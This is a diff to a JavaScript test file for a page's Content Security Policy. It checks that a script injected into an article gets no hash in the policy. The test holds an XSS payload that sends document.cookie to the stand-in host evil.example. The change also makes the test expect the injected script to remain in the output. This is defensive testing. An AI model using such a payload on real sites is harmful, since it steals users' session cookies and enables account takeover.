@@ -36,12 +36,13 @@ test.each([
 	expect(rule(policy, 'script-src')).toBe(`script-src 'self' ${sha('a()')}`)
 })
 
+// The API removes scripts; the policy is what stops one that it has missed.
 test('an article with a script in it gets no hash through the whole way of a page', () => {
 	const evil = "fetch('https://evil.example/?'+document.cookie)"
 	const article = prepareArticle(`<p>Текст</p><script>${evil}</script><p style="position:fixed">x</p>`).html
 	const page = renderToString(createElement(MarkContext, { value: mark }, createElement(Html, { html: article })))
 	const { html, own } = ownMarkup(page, mark)
-	expect(html).toBe('<article><p>Текст</p><p>x</p></article>')
+	expect(html).toContain(`<script>${evil}</script><p style="position:fixed">`)
 	expect(contentSecurityPolicy(own)).not.toContain('sha256')
 })
 
